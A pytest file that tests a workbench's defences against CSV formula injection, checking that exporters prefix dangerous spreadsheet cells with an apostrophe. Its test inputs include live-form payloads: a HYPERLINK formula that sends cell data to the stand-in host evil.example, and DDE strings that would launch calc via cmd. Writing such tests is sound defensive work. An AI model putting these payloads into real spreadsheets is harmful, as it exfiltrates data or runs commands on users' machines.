"""CSV (formula) injection: every CSV the workbench writes neutralises text cells a spreadsheet would run.

Exact strings, for the rule in workbench/csvsafe.py and for each writer (run CSV, records CSV, Decoding Lab
grid, prompt-set results): the pages' download buttons call the same functions.
"""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import pytest

from workbench.csvsafe import neutral, rows_to_csv

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(("value", "written"), [
    ("=1+2", "'=1+2"),
    ("+cmd|' /c calc'!A1", "'+cmd|' /c calc'!A1"),
    ("-2+3+cmd|' /c calc'!A0", "'-2+3+cmd|' /c calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("\n=1+2", "'\n=1+2"),
    ("\x00=1", "'\x00=1"),
    ("\uff1d1+2", "'\uff1d1+2"),  # full-width equals sign
    ("- a list item", "'- a list item"),
    ("-", "'-"),
    ("+", "'+"),
    # text that is exactly a plain decimal number stays: a spreadsheet reads the number, no formula fits
    ("-3", "-3"), ("-3.5", "-3.5"), ("+2", "+2"), ("-1e-3", "-1e-3"), ("-.5", "-.5"),
    ("-3 apples", "'-3 apples"), ("-1e5+cmd", "'-1e5+cmd"), ("-\u0663", "'-\u0663"),  # Arabic-Indic 3: not ASCII
    # numbers the workbench writes as numbers stay numbers
    (-3.5, -3.5), (-2, -2), (True, True), (0.0, 0.0),
    # everything else is untouched
    ("a=b", "a=b"), ("'=already text", "'=already text"), (" =1", " =1"), ("", ""), (None, ""),
    ({"7": 2}, '{"7": 2}'), (["-x"], '["-x"]'),
])
def test_a_cell_is_neutralised_exactly(value, written):
    assert neutral(value) == written


def test_rows_to_csv_exact_text_quotes_separators_and_reads_back():
    rows = [{"a": HOSTILE, "b": "x;=1+2", "c": -3.5},
            {"a": "tab\there", "b": 'say "hi"', "c": "-3"},
            {"a": "line\nbreak", "c": None, "extra": "=ignored"}]
    text = rows_to_csv(["a", "b", "c"], rows)
    assert text == ("a,b,c\n"
                    '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")","x;=1+2",-3.5\n'
                    '"tab\there","say ""hi""",-3\n'
                    '"line\nbreak",,\n')
    assert list(csv.reader(io.StringIO(text))) == [
        ["a", "b", "c"], ["'" + HOSTILE, "x;=1+2", "-3.5"], ["tab\there", 'say "hi"', "-3"],
        ["line\nbreak", "", ""]]
    assert rows_to_csv(["=h"], [], lineterminator="\r\n") == "'=h\r\n"  # column names too



def test_a_run_csv_neutralises_every_text_cell_and_keeps_numbers():
    from workbench.report import RunReport, to_csv, to_records_csv

    record = {"strategy": "@evil", "item_index": 0, "id": "-1", "input": HOSTILE, "prompt": "+cmd|' /c calc'!A1",
              "output": " -2", "extracted": "-2", "rule": "number", "gold": "-2+3", "correct": True,
              "seconds": -0.5, "tokens": 3}
    report = RunReport(1, "finished", {}, {}, (record,), None, None)
    assert to_csv(report) == (
        "strategy,item_index,id,input,prompt,output,extracted,rule,gold,correct,seconds,tokens\r\n"
        '\'@evil,0,-1,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",\'+cmd|\' /c calc\'!A1, -2,-2,number,'
        "'-2+3,True,-0.5,3\r\n")
    assert to_records_csv(RunReport(1, "finished", {}, {}, ({"strategy": "s", "item_index": 0, "=k": "@v"},),
                                    None, None)) == "strategy,item_index,'=k\ns,0,'@v\n"


def test_a_decoding_lab_grid_csv_neutralises_prompts_and_outputs():
    from workbench.backends.base import Generation
    from workbench.compare import Cell, Grid, grid_to_csv
    from workbench.decoding import DecodingConfig

    grid = Grid(prompts=(("=A", "@Hi"),), configs=(("-Greedy", DecodingConfig(max_new_tokens=8)),),
                cells=(Cell("=A", "-Greedy", (Generation("=1+2", 2, 1, "stop", 0.5),)),), seconds=1.0)
    header, row = grid_to_csv(grid).splitlines()
    cells = next(csv.reader([row]))
    named = dict(zip(header.split(","), cells, strict=True))
    assert (named["prompt"], named["config"], named["text"], named["prompt_text"]) == ("'=A", "'-Greedy", "'=1+2",
                                                                                        "'@Hi")
    assert row.startswith("'=A,'-Greedy,0,,'=1+2,2,1,0.5,2.0,stop,False,")


def test_a_prompt_set_results_csv_neutralises_inputs_answers_and_outputs():
    from workbench.promptsets.exports import results_csv
    from workbench.promptsets.model import TestCase
    from workbench.promptsets.running import StepRun

    run = SimpleNamespace(seconds=0.25, stages=(SimpleNamespace(output="=cmd|' /c calc'!A1"),))
    result = StepRun(0, "+title", "gemma-3-270m", TestCase("@input", "-3"), (run,), "-3", None, True)
    assert results_csv([result]) == ("step,title,model,input,expected,answer,correct,samples,seconds,output,score,"
                                     "checks\n"
                                     "1,'+title,gemma-3-270m,'@input,-3,-3,True,1,0.25,'=cmd|' /c calc'!A1,,\n")
